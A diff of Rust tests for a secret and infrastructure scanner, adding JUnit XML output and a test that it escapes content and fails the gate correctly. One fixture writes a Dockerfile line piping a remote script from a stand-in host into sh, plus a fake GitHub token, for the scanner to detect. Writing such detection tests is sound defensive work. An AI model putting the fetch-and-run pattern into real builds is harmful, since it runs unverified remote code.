@@ -157,7 +157,7 @@ fn fixtures_dir_scan_writes_valid_outputs_and_fails() {
 
 #[test]
 fn output_is_identical_for_any_thread_count() {
-    for format in ["text", "json", "sarif", "github"] {
+    for format in ["text", "json", "sarif", "github", "junit"] {
         let a = run(&["scan", "fixtures", "--format", format, "--jobs", "1"]);
         let b = run(&["scan", "fixtures", "--format", format, "--jobs", "4"]);
         assert_eq!(a.0, b.0);
@@ -718,6 +718,57 @@ fn git_range_finds_a_secret_added_and_removed_within_the_range() {
 }
 
 #[test]
+fn junit_reports_gate_failures_as_failures_and_escapes_content() {
+    let t = Tree::new();
+    let token = ["ghp_", "Q7wLm2Xv9RkT4pZn8bYc1HsJ6dFgA3uE5oNi"].concat();
+    t.write("src/app.py", format!("TOKEN = \"{token}\"\n"));
+    t.write(
+        "Dockerfile",
+        "FROM debian:13-slim\nRUN curl -fsSL \"https://x.example/i.sh?a=<b>&c\" | sh\nUSER 10001\n",
+    );
+    let root = t.path().to_str().unwrap_or_default();
+    let (code, out, _) = run(&[
+        "scan",
+        root,
+        "--scanners",
+        "secrets,iac",
+        "--fail-on",
+        "critical",
+        "--format",
+        "junit",
+    ]);
+    assert_eq!(code, 1);
+    assert!(!out.contains(&token));
+    // Well-formed XML, whatever the scanned content holds.
+    let mut reader = quick_xml::Reader::from_str(&out);
+    let mut cases = 0;
+    loop {
+        match reader.read_event() {
+            Ok(quick_xml::events::Event::Eof) => break,
+            Ok(quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e))
+                if e.local_name().into_inner() == "testcase" =>
+            {
+                cases += 1
+            }
+            Ok(_) => {}
+            Err(e) => panic!("not XML: {e}\n{out}"),
+        }
+    }
+    assert_eq!(cases, 2, "{out}");
+    assert!(
+        out.contains("<testsuites name=\"portcullis\" tests=\"2\" failures=\"1\" errors=\"0\">"),
+        "{out}"
+    );
+    // The critical secret fails the gate; the high Dockerfile finding is reported but passes.
+    assert!(out.contains("<testcase classname=\"secrets.github-classic-pat\" name=\"src/app.py:1:10 github-classic-pat\" file=\"src/app.py\" line=\"1\">\n      <failure type=\"critical\""), "{out}");
+    assert!(
+        out.contains("<system-out>docker-remote-script-piped-to-shell (high)"),
+        "{out}"
+    );
+    assert!(out.contains("a=&lt;b&gt;&amp;c"), "{out}");
+}
+
+#[test]
 fn config_file_rules_ignores_and_overrides() {
     let t = Tree::new();
     let token = ["ghp_", "Q7wLm2Xv9RkT4pZn8bYc1HsJ6dFgA3uE5oNi"].concat();
@@ -999,7 +1050,7 @@ fn every_secret_on_a_line_is_redacted_in_each_snippet() {
         "creds.ini",
         format!("aws_access_key_id={id} aws_secret_access_key={key}\n"),
     );
-    for format in ["text", "json", "sarif", "github"] {
+    for format in ["text", "json", "sarif", "github", "junit"] {
         let (code, out, _) = run(&[
             "scan",
             t.path().to_str().unwrap_or_default(),
